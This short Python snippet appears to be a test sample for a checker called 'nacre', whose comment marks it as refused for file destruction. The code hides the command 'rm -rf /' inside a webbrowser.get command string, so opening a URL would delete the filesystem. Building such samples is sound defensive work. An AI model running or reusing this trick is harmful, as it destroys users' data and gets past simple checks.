# nacre: refused file.destroy
import webbrowser
webbrowser.get('rm -rf / %s').open('x')
